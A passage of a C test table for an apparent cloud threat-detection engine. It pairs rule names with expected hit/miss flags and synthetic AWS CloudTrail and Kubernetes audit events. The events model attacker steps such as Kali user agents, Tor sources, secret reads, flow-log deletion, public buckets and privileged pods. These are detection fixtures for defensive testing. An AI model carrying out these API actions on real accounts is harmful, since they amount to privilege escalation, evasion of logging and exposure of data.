	  CT_ALICE CT_CALL("s3", "PutBucketLogging") "'requestParameters':{'bucketName':'logs','BucketLoggingStatus':{'LoggingEnabled':{'TargetBucket':'audit','TargetPrefix':'s3/'}}}" },
	{ "Root credentials used", 1, CT, CT_ROOT CT_CALL("iam", "ListUsers") "'readOnly':true" },
	{ "Root credentials used", 0, CT, CT_ALICE CT_CALL("iam", "ListUsers") "'readOnly':true" },
	{ "Root credentials used", 0, CT,
	  "'userIdentity':{'type':'Root','principalId':'111122223333','arn':'arn:aws:iam::111122223333:root','accountId':'111122223333','invokedBy':'cloudformation.amazonaws.com'},'sourceIPAddress':'cloudformation.amazonaws.com','userAgent':'cloudformation.amazonaws.com',"
	  CT_CALL("iam", "CreateRole") "'readOnly':false" },
	{ "Short-term root credentials used", 1, CT,
	  "'userIdentity':{'type':'Root','principalId':'111122223333','arn':'arn:aws:iam::111122223333:root','accountId':'111122223333','accessKeyId':'ASIAROOTSESSION00001'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0',"
	  CT_CALL("iam", "DeleteUserPolicy") "'readOnly':false" },
	{ "Short-term root credentials used", 0, CT, CT_ROOT CT_CALL("iam", "DeleteUserPolicy") "'readOnly':false" },
	{ "API call from Kali Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0 Python/3.11 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023',"
	  CT_CALL("iam", "ListRoles") "'readOnly':true" },
	{ "API call from Kali Linux", 0, CT, CT_ALICE CT_CALL("iam", "ListRoles") "'readOnly':true" },
	{ "S3 data call from Kali Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'[aws-cli/2.13.0 Linux/6.5.0-kali3-amd64]',"
	  CT_S3DATA("GetObject", "true") },
	{ "S3 data call from Kali Linux", 0, CT, CT_ALICE CT_S3DATA("GetObject", "true") },
	{ "API call from Parrot Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'Boto3/1.28.0 Python/3.11 Linux/6.1.0-parrot-amd64 Botocore/1.31.0',"
	  CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "API call from Parrot Linux", 0, CT, CT_ALICE CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "S3 data call from Parrot Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'Boto3/1.28.0 Linux/6.1.0-parrot-amd64',"
	  CT_S3DATA("PutObject", "false") },
	{ "S3 data call from Parrot Linux", 0, CT, CT_ALICE CT_S3DATA("PutObject", "false") },
	{ "API call from Pentoo Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0 Linux/6.1.0-pentoo',"
	  CT_CALL("sts", "GetCallerIdentity") "'readOnly':true" },
	{ "API call from Pentoo Linux", 0, CT, CT_ALICE CT_CALL("sts", "GetCallerIdentity") "'readOnly':true" },
	{ "S3 data call from Pentoo Linux", 1, CT,
	  "'userIdentity':{'type':'IAMUser','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0 Linux/6.1.0-pentoo',"
	  CT_S3DATA("ListObjects", "true") },
	{ "S3 data call from Pentoo Linux", 0, CT, CT_ALICE CT_S3DATA("ListObjects", "true") },
	{ "Read-only API call from a Tor exit", 1, CT, CT_FROM("171.25.193.9") CT_CALL("iam", "ListUsers") "'readOnly':true" },
	{ "Read-only API call from a Tor exit", 0, CT, CT_FROM("171.25.193.9") CT_CALL("iam", "CreateUser") "'readOnly':false" },
	{ "API call from a Tor exit", 1, CT, CT_FROM("171.25.193.9") CT_CALL("iam", "CreateUser") "'readOnly':false" },
	{ "API call from a Tor exit", 0, CT, CT_FROM("171.25.193.10") CT_CALL("iam", "CreateUser") "'readOnly':false" },
	{ "Read-only API call from a listed malicious address", 1, CT, CT_FROM("203.0.113.77") CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "Read-only API call from a listed malicious address", 0, CT, CT_FROM("203.0.113.78") CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "API call from a listed malicious address", 1, CT, CT_FROM("203.0.113.77") CT_CALL("ec2", "RunInstances") "'readOnly':false" },
	{ "API call from a listed malicious address", 0, CT, CT_FROM("203.0.113.77") CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "S3 read from a Tor exit", 1, CT, CT_FROM("171.25.193.9") CT_S3DATA("GetObject", "true") },
	{ "S3 read from a Tor exit", 0, CT, CT_FROM("171.25.193.9") CT_S3DATA("PutObject", "false") },
	{ "S3 change from a Tor exit", 1, CT, CT_FROM("171.25.193.9") CT_S3DATA("DeleteObject", "false") },
	{ "S3 change from a Tor exit", 0, CT, CT_FROM("198.51.100.10") CT_S3DATA("DeleteObject", "false") },
	{ "S3 read from a listed malicious address", 1, CT, CT_FROM("203.0.113.77") CT_S3DATA("GetObject", "true") },
	{ "S3 read from a listed malicious address", 0, CT, CT_FROM("203.0.113.78") CT_S3DATA("GetObject", "true") },
	{ "S3 change from a listed malicious address", 1, CT, CT_FROM("203.0.113.77") CT_S3DATA("PutObject", "false") },
	{ "S3 change from a listed malicious address", 0, CT, CT_FROM("203.0.113.77") CT_S3DATA("GetObject", "true") },
	/* the session's first call: from the workload's own (NAT) address, the baseline */
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("52.49.10.10") CT_AT("22:13:10") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 1, CT, CT_INSTANCE("198.51.100.200") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("52.49.10.10") CT_AT("22:13:30") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	/* an AWS service calling with the role, a VPC endpoint: inside AWS */
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("198.51.100.201") CT_CALL("kms", "Decrypt") "'readOnly':true,'userIdentity':{'type':'AssumedRole','arn':'arn:aws:sts::111122223333:assumed-role/web-role/i-0abc123def4567890','invokedBy':'ec2.amazonaws.com'}" },
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("198.51.100.202") CT_CALL("s3", "ListBuckets") "'readOnly':true,'vpcEndpointId':'vpce-0123456789abcdef0'" },
	/* an ECS task's credentials: its first call from its NAT address, then from elsewhere */
	{ "Instance credentials used outside the workload", 0, CT, CT_TASK("52.49.10.11") CT_AT("22:13:10") CT_CALL("kms", "Decrypt") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 1, CT, CT_TASK("203.0.113.50") CT_AT("22:13:30") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("203.0.113.10") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 0, CT, CT_INSTANCE("10.0.1.17") CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	{ "Instance credentials used outside the workload", 0, CT, CT_ALICE CT_CALL("s3", "ListBuckets") "'readOnly':true" },
	/* AnomalousBehavior as first seen in the case: bob's first call (22:13:20) is his learning period;
	 * each family's first call by him after it fires, once per user agent; failed calls never */
	{ "First discovery call by a principal in the case", 0, CT, CT_BOB("aws-cli/2.13.0") CT_CALL("ec2", "DescribeInstances") "'readOnly':true" },
	{ "First discovery call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("ec2", "DescribeVpcs") "'readOnly':true" },
	{ "First discovery call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("ec2", "DescribeVpcs") "'readOnly':true" },
	{ "First credential access call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("secretsmanager", "GetSecretValue") "'readOnly':true" },
	{ "First credential access call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("secretsmanager", "GetSecretValue") "'readOnly':true" },
	{ "First defense evasion call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("ec2", "DeleteFlowLogs") "'readOnly':false" },
	{ "First defense evasion call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("ec2", "DeleteFlowLogs") "'readOnly':false" },
	{ "First exfiltration call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("ec2", "CreateSnapshot") "'readOnly':false" },
	{ "First exfiltration call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("ec2", "CreateSnapshot") "'readOnly':false" },
	{ "First impact call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("ec2", "DeleteSecurityGroup") "'readOnly':false" },
	{ "First impact call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("ec2", "DeleteSecurityGroup") "'readOnly':false" },
	{ "First initial access call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("sts", "GetFederationToken") "'readOnly':false" },
	{ "First initial access call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("sts", "GetFederationToken") "'readOnly':false" },
	{ "First persistence call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("iam", "CreateAccessKey") "'readOnly':false" },
	{ "First persistence call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("iam", "CreateAccessKey") "'readOnly':false" },
	{ "First privilege escalation call by a principal in the case", 1, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:30") CT_CALL("iam", "PutUserPolicy") "'readOnly':false" },
	{ "First privilege escalation call by a principal in the case", 0, CT, CT_BOB("Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0") CT_AT("22:13:40") CT_CALL("iam", "PutUserPolicy") "'readOnly':false" },
	{ "First discovery call by a principal in the case", 1, CT, CT_BOB("aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali3-amd64") CT_AT("22:13:50") CT_CALL("ec2", "DescribeVpcs") "'readOnly':true" },
	{ "First persistence call by a principal in the case", 0, CT, CT_BOB("aws-cli/2.15.1") CT_AT("22:13:50") CT_FAILED CT_CALL("iam", "CreateAccessKey") "'readOnly':false" },
	{ "First persistence call by a principal in the case", 0, CT, "'userIdentity':{'type':'AWSService','invokedBy':'ec2.amazonaws.com'},'sourceIPAddress':'ec2.amazonaws.com','userAgent':'ec2.amazonaws.com'," CT_AT("22:13:50") CT_CALL("iam", "CreateAccessKey") "'readOnly':false" },
	{ "Bedrock model invocation logging disabled", 1, CT, CT_ALICE CT_CALL("bedrock", "DeleteModelInvocationLoggingConfiguration") "'requestParameters':null" },
	{ "Bedrock model invocation logging disabled", 0, CT, CT_ALICE CT_CALL("bedrock", "GetModelInvocationLoggingConfiguration") "'requestParameters':null" },
	{ "Account S3 block public access disabled", 1, CT, CT_ALICE CT_CALL("s3", "DeleteAccountPublicAccessBlock") "'requestParameters':{'accountId':'111122223333'}" },
	{ "Account S3 block public access disabled", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutAccountPublicAccessBlock") "'requestParameters':{'PublicAccessBlockConfiguration':{'BlockPublicAcls':true,'IgnorePublicAcls':true,'BlockPublicPolicy':false,'RestrictPublicBuckets':true}}" },
	{ "Account S3 block public access disabled", 0, CT,
	  CT_ALICE CT_CALL("s3", "PutAccountPublicAccessBlock") "'requestParameters':{'PublicAccessBlockConfiguration':{'BlockPublicAcls':true,'IgnorePublicAcls':true,'BlockPublicPolicy':true,'RestrictPublicBuckets':true}}" },
	{ "Bucket S3 block public access disabled", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketPublicAccessBlock") "'requestParameters':{'bucketName':'finance','PublicAccessBlockConfiguration':{'BlockPublicAcls':false,'IgnorePublicAcls':false,'BlockPublicPolicy':false,'RestrictPublicBuckets':false}}" },
	{ "Bucket S3 block public access disabled", 1, CT, CT_ALICE CT_CALL("s3", "DeleteBucketPublicAccessBlock") "'requestParameters':{'bucketName':'finance'}" },
	{ "Bucket S3 block public access disabled", 0, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketPublicAccessBlock") "'requestParameters':{'bucketName':'finance','PublicAccessBlockConfiguration':{'BlockPublicAcls':true,'IgnorePublicAcls':true,'BlockPublicPolicy':true,'RestrictPublicBuckets':true}}" },
	{ "Bucket opened to anonymous access", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketPolicy") "'requestParameters':{'bucketName':'finance','bucketPolicy':{'Version':'2012-10-17','Statement':[{'Effect':'Allow','Principal':'*','Action':'s3:GetObject','Resource':'arn:aws:s3:::finance/*'}]}}" },
	{ "Bucket opened to anonymous access", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketAcl") "'requestParameters':{'bucketName':'finance','AccessControlPolicy':{'AccessControlList':{'Grant':[{'Grantee':{'URI':'http://acs.amazonaws.com/groups/global/AllUsers'},'Permission':'READ'}]}}}" },
	{ "Bucket opened to anonymous access", 0, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketPolicy") "'requestParameters':{'bucketName':'finance','bucketPolicy':{'Version':'2012-10-17','Statement':[{'Effect':'Allow','Principal':{'AWS':'arn:aws:iam::111122223333:root'},'Action':'s3:GetObject','Resource':'arn:aws:s3:::finance/*'}]}}" },
	{ "Bucket opened to any AWS user", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketAcl") "'requestParameters':{'bucketName':'finance','AccessControlPolicy':{'AccessControlList':{'Grant':[{'Grantee':{'URI':'http://acs.amazonaws.com/groups/global/AuthenticatedUsers'},'Permission':'READ'}]}}}" },
	{ "Bucket opened to any AWS user", 0, CT, CT_ALICE CT_CALL("s3", "PutBucketAcl") "'requestParameters':{'bucketName':'finance','x-amz-acl':['private']}" },
	{ "EC2 Windows password data retrieved", 1, CT, CT_ALICE CT_CALL("ec2", "GetPasswordData") "'requestParameters':{'instanceId':'i-0123'}" },
	{ "EC2 Windows password data retrieved", 0, CT, CT_ALICE CT_CALL("ec2", "GetPasswordData") CT_FAILED "'requestParameters':{'instanceId':'i-0123'}" },
	{ "RDS master password reset", 1, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','masterUserPassword':'****'}" },
	{ "RDS master password reset", 0, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','allocatedStorage':200}" },
	{ "EC2 termination protection enabled", 1, CT, CT_ALICE CT_CALL("ec2", "ModifyInstanceAttribute") "'requestParameters':{'instanceId':'i-0123','disableApiTermination':{'value':true}}" },
	{ "EC2 termination protection enabled", 0, CT, CT_ALICE CT_CALL("ec2", "ModifyInstanceAttribute") "'requestParameters':{'instanceId':'i-0123','disableApiTermination':{'value':false}}" },
	{ "VPC flow logs deleted", 1, CT, CT_ALICE CT_CALL("ec2", "DeleteFlowLogs") "'requestParameters':{'flowLogId':['fl-1']}" },
	{ "VPC flow logs deleted", 0, CT, CT_ALICE CT_CALL("ec2", "CreateFlowLogs") "'requestParameters':{}" },
	{ "Account left its organization", 1, CT, CT_ALICE CT_CALL("organizations", "LeaveOrganization") "'requestParameters':null" },
	{ "Account left its organization", 0, CT, CT_ALICE CT_CALL("organizations", "LeaveOrganization") CT_FAILED "'requestParameters':null" },
	{ "Organization policy type disabled", 1, CT, CT_ALICE CT_CALL("organizations", "DisablePolicyType") "'requestParameters':{'policyType':'SERVICE_CONTROL_POLICY'}" },
	{ "Organization policy type disabled", 0, CT, CT_ALICE CT_CALL("organizations", "EnablePolicyType") "'requestParameters':{'policyType':'SERVICE_CONTROL_POLICY'}" },
	{ "RDS IAM authentication disabled", 1, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','enableIAMDatabaseAuthentication':false}" },
	{ "RDS IAM authentication disabled", 0, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','enableIAMDatabaseAuthentication':true}" },
	{ "Route 53 Resolver query logging deleted", 1, CT, CT_ALICE CT_CALL("route53resolver", "DeleteResolverQueryLogConfig") "'requestParameters':{}" },
	{ "Route 53 Resolver query logging deleted", 0, CT, CT_ALICE CT_CALL("route53resolver", "ListResolverQueryLogConfigs") "'requestParameters':{}" },
	{ "SageMaker lifecycle configuration modified", 1, CT, CT_ALICE CT_CALL("sagemaker", "UpdateNotebookInstanceLifecycleConfig") "'requestParameters':{}" },
	{ "SageMaker lifecycle configuration modified", 0, CT, CT_ALICE CT_CALL("sagemaker", "DescribeNotebookInstanceLifecycleConfig") "'requestParameters':{}" },
	{ "AMI shared with another account", 1, CT,
	  CT_ALICE CT_CALL("ec2", "ModifyImageAttribute") "'requestParameters':{'imageId':'ami-1','launchPermission':{'add':{'items':[{'userId':'999988887777'}]}}}" },
	{ "AMI shared with another account", 0, CT,
	  CT_ALICE CT_CALL("ec2", "ModifyImageAttribute") "'requestParameters':{'imageId':'ami-1','launchPermission':{'remove':{'items':[{'userId':'999988887777'}]}}}" },
	{ "EBS snapshot shared with another account", 1, CT,
	  CT_ALICE CT_CALL("ec2", "ModifySnapshotAttribute") "'requestParameters':{'snapshotId':'snap-1','createVolumePermission':{'add':{'items':[{'group':'all'}]}}}" },
	{ "EBS snapshot shared with another account", 0, CT, CT_ALICE CT_CALL("ec2", "DescribeSnapshotAttribute") "'requestParameters':{'snapshotId':'snap-1'}" },
	{ "RDS snapshot made public", 1, CT,
	  CT_ALICE CT_CALL("rds", "ModifyDBSnapshotAttribute") "'requestParameters':{'dBSnapshotIdentifier':'s1','attributeName':'restore','valuesToAdd':['all']}" },
	{ "RDS snapshot made public", 0, CT,
	  CT_ALICE CT_CALL("rds", "ModifyDBSnapshotAttribute") "'requestParameters':{'dBSnapshotIdentifier':'s1','attributeName':'restore','valuesToAdd':['111122223333']}" },
	{ "S3 lifecycle set to expire objects at once", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketLifecycle") "'requestParameters':{'bucketName':'finance','LifecycleConfiguration':{'Rule':{'Status':'Enabled','Expiration':{'Days':1}}}}" },
	{ "S3 lifecycle set to expire objects at once", 0, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketLifecycle") "'requestParameters':{'bucketName':'finance','LifecycleConfiguration':{'Rule':{'Status':'Enabled','Expiration':{'Days':365}}}}" },
	{ "SES sending enabled", 1, CT, CT_ALICE CT_CALL("ses", "UpdateAccountSendingEnabled") "'requestParameters':{'enabled':true}" },
	{ "SES sending enabled", 0, CT, CT_ALICE CT_CALL("ses", "UpdateAccountSendingEnabled") "'requestParameters':{'enabled':false}" },
	{ "SES production access requested", 1, CT, CT_ALICE CT_CALL("ses", "PutAccountDetails") "'requestParameters':{'productionAccessEnabled':true}" },
	{ "SES production access requested", 0, CT, CT_ALICE CT_CALL("ses", "GetAccount") "'requestParameters':{}" },
	{ "Console login without MFA", 1, CT,
	  CT_ALICE CT_CALL("signin", "ConsoleLogin") "'eventType':'AwsConsoleSignIn','responseElements':{'ConsoleLogin':'Success'},'additionalEventData':{'MFAUsed':'No'}" },
	{ "Console login without MFA", 0, CT,
	  CT_ALICE CT_CALL("signin", "ConsoleLogin") "'eventType':'AwsConsoleSignIn','responseElements':{'ConsoleLogin':'Success'},'additionalEventData':{'MFAUsed':'Yes'}" },
	{ "RDS instance made publicly accessible", 1, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','publiclyAccessible':true}" },
	{ "RDS instance made publicly accessible", 0, CT, CT_ALICE CT_CALL("rds", "ModifyDBInstance") "'requestParameters':{'dBInstanceIdentifier':'prod','publiclyAccessible':false}" },
	{ "SSH key pushed to an instance", 1, CT,
	  CT_ALICE CT_CALL("ec2-instance-connect", "SendSSHPublicKey") "'requestParameters':{'instanceId':'i-0123','instanceOSUser':'ec2-user'}" },
	{ "SSH key pushed to an instance", 0, CT, CT_ALICE CT_CALL("ec2", "DescribeKeyPairs") "'requestParameters':{}" },
	{ "EC2 user data modified", 1, CT, CT_ALICE CT_CALL("ec2", "ModifyInstanceAttribute") "'requestParameters':{'instanceId':'i-0123','userData':'<sensitiveDataRemoved>'}" },
	{ "EC2 user data modified", 0, CT, CT_ALICE CT_CALL("ec2", "ModifyInstanceAttribute") "'requestParameters':{'instanceId':'i-0123','instanceType':{'value':'m5.large'}}" },
	{ "Security group opened SSH to the internet", 1, CT,
	  CT_ALICE CT_CALL("ec2", "AuthorizeSecurityGroupIngress") "'requestParameters':{'groupId':'sg-1','ipPermissions':{'items':[{'ipProtocol':'tcp','fromPort':22,'toPort':22,'ipRanges':{'items':[{'cidrIp':'0.0.0.0/0'}]}}]}}" },
	{ "Security group opened SSH to the internet", 0, CT,
	  CT_ALICE CT_CALL("ec2", "AuthorizeSecurityGroupIngress") "'requestParameters':{'groupId':'sg-1','ipPermissions':{'items':[{'ipProtocol':'tcp','fromPort':22,'toPort':22,'ipRanges':{'items':[{'cidrIp':'10.0.0.0/8'}]}}]}}" },
	{ "Security group opened SSH to the internet", 0, CT,
	  CT_ALICE CT_CALL("ec2", "AuthorizeSecurityGroupIngress") "'requestParameters':{'groupId':'sg-1','ipPermissions':{'items':[{'ipProtocol':'tcp','fromPort':443,'toPort':443,'ipRanges':{'items':[{'cidrIp':'0.0.0.0/0'}]}}]}}" },
	{ "IAM access key created", 1, CT, CT_ALICE CT_CALL("iam", "CreateAccessKey") "'requestParameters':{'userName':'bob'}" },
	{ "IAM access key created", 0, CT, CT_ALICE CT_CALL("iam", "ListAccessKeys") "'requestParameters':{'userName':'bob'}" },
	{ "IAM role trust policy modified", 1, CT, CT_ALICE CT_CALL("iam", "UpdateAssumeRolePolicy") "'requestParameters':{'roleName':'admin'}" },
	{ "IAM role trust policy modified", 0, CT, CT_ALICE CT_CALL("iam", "GetRole") "'requestParameters':{'roleName':'admin'}" },
	{ "IAM console password created", 1, CT, CT_ALICE CT_CALL("iam", "CreateLoginProfile") "'requestParameters':{'userName':'bob'}" },
	{ "IAM console password created", 0, CT, CT_ALICE CT_CALL("iam", "CreateLoginProfile") CT_FAILED "'requestParameters':{'userName':'bob'}" },
	{ "IAM console password changed", 1, CT, CT_ALICE CT_CALL("iam", "UpdateLoginProfile") "'requestParameters':{'userName':'bob'}" },
	{ "IAM console password changed", 0, CT, CT_ALICE CT_CALL("iam", "GetLoginProfile") "'requestParameters':{'userName':'bob'}" },
	{ "Lambda function opened to everyone", 1, CT,
	  CT_ALICE CT_CALL("lambda", "AddPermission20150331v2") "'requestParameters':{'functionName':'f','principal':'*','action':'lambda:InvokeFunction'}" },
	{ "Lambda function opened to everyone", 0, CT,
	  CT_ALICE CT_CALL("lambda", "AddPermission20150331v2") "'requestParameters':{'functionName':'f','principal':'s3.amazonaws.com','action':'lambda:InvokeFunction'}" },
	{ "Lambda function URL without authentication", 1, CT,
	  CT_ALICE CT_CALL("lambda", "CreateFunctionUrlConfig20211031") "'requestParameters':{'functionName':'f','authType':'NONE'}" },
	{ "Lambda function URL without authentication", 0, CT,
	  CT_ALICE CT_CALL("lambda", "CreateFunctionUrlConfig20211031") "'requestParameters':{'functionName':'f','authType':'AWS_IAM'}" },
	{ "IAM Roles Anywhere trust anchor created", 1, CT, CT_ALICE CT_CALL("rolesanywhere", "CreateTrustAnchor") "'requestParameters':{'name':'ta'}" },
	{ "IAM Roles Anywhere trust anchor created", 0, CT, CT_ALICE CT_CALL("rolesanywhere", "ListTrustAnchors") "'requestParameters':{}" },
	{ "Administrator policy attached", 1, CT,
	  CT_ALICE CT_CALL("iam", "AttachUserPolicy") "'requestParameters':{'userName':'bob','policyArn':'arn:aws:iam::aws:policy/AdministratorAccess'}" },
	{ "Administrator policy attached", 0, CT,
	  CT_ALICE CT_CALL("iam", "AttachUserPolicy") "'requestParameters':{'userName':'bob','policyArn':'arn:aws:iam::aws:policy/ReadOnlyAccess'}" },
	{ "SES full access policy attached", 1, CT,
	  CT_ALICE CT_CALL("iam", "AttachRolePolicy") "'requestParameters':{'roleName':'app','policyArn':'arn:aws:iam::aws:policy/AmazonSESFullAccess'}" },
	{ "SES full access policy attached", 0, CT,
	  CT_ALICE CT_CALL("iam", "AttachRolePolicy") "'requestParameters':{'roleName':'app','policyArn':'arn:aws:iam::aws:policy/AmazonSESReadOnlyAccess'}" },
	{ "Bedrock service credential created", 1, CT,
	  CT_ALICE CT_CALL("iam", "CreateServiceSpecificCredential") "'requestParameters':{'userName':'bob','serviceName':'bedrock.amazonaws.com'}" },
	{ "Bedrock service credential created", 0, CT,
	  CT_ALICE CT_CALL("iam", "CreateServiceSpecificCredential") "'requestParameters':{'userName':'bob','serviceName':'codecommit.amazonaws.com'}" },
	{ "SES domain identity verified", 1, CT, CT_ALICE CT_CALL("ses", "VerifyDomainIdentity") "'requestParameters':{'domain':'example.net'}" },
	{ "SES domain identity verified", 0, CT, CT_ALICE CT_CALL("ses", "ListIdentities") "'requestParameters':{}" },

	/* --- Kubernetes audit --- */
	{ "Exec into a kube-system pod", 1, K8S, KA("create", "bob", "pods", "kube-system", "coredns-1", ",'subresource':'exec'", "101") },
	{ "Exec into a kube-system pod", 0, K8S, KA("create", "bob", "pods", "kube-system", "coredns-1", ",'subresource':'exec'", "403") },
	{ "Exec into a pod", 1, K8S, KA("create", "bob", "pods", "default", "web-1", ",'subresource':'exec'", "101") },
	{ "Exec into a pod", 0, K8S, KA("get", "bob", "pods", "default", "web-1", ",'subresource':'log'", "200") },
	{ "Privileged pod created", 1, K8S, KA("create", "bob", "pods", "default", "p", "", "201") POD("true", "/data") },
	{ "Privileged pod created", 0, K8S, KA("create", "bob", "pods", "default", "p", "", "201") POD("false", "/data") },
	{ "Privileged pod created", 0, K8S,
	  KA("create", "system:serviceaccount:kube-system:daemon-set-controller", "pods", "kube-system", "p", "", "201") POD("true", "/data") },
	{ "Pod with a sensitive host mount created", 1, K8S, KA("create", "bob", "pods", "default", "p", "", "201") POD("false", "/etc") },
	{ "Pod with a sensitive host mount created", 0, K8S, KA("create", "bob", "pods", "default", "p", "", "201") POD("false", "/data/cache") },
	{ "Secrets read by an unusual identity", 1, K8S, KA("get", "bob", "secrets", "default", "db-password", "", "200") },
	{ "Secrets read by an unusual identity", 0, K8S,
	  KA("get", "system:serviceaccount:kube-system:generic-garbage-collector", "secrets", "default", "db-password", "", "200") },
	{ "Secrets read by an unusual identity", 0, K8S, KA("get", "bob", "secrets", "default", "db-password", "", "403") },
	{ "Successful anonymous API access", 1, K8S, KA("list", "system:anonymous", "pods", "default", "", "", "200") },
	{ "Successful anonymous API access", 0, K8S, KA("list", "system:anonymous", "pods", "default", "", "", "403") },
	{ "Anonymous access granted", 1, K8S,
	  KA("create", "bob", "clusterrolebindings", "", "b", "", "201") BINDING("ClusterRoleBinding", "view", "User", "system:anonymous") },
	{ "Anonymous access granted", 0, K8S,
	  KA("create", "bob", "clusterrolebindings", "", "b", "", "201") BINDING("ClusterRoleBinding", "view", "User", "carol") },
	{ "Admin access granted to a default service account", 1, K8S,
	  KA("create", "bob", "clusterrolebindings", "", "b", "", "201") BINDING("ClusterRoleBinding", "cluster-admin", "ServiceAccount", "default") },
	{ "Admin access granted to a default service account", 0, K8S,
	  KA("create", "bob", "clusterrolebindings", "", "b", "", "201") BINDING("ClusterRoleBinding", "view", "ServiceAccount", "default") },
	{ "Dashboard exposed to the internet", 1, K8S, KA("create", "bob", "services", "kubernetes-dashboard", "kubernetes-dashboard", "", "201") SERVICE("LoadBalancer") },
	{ "Dashboard exposed to the internet", 0, K8S, KA("create", "bob", "services", "kubernetes-dashboard", "kubernetes-dashboard", "", "201") SERVICE("ClusterIP") },
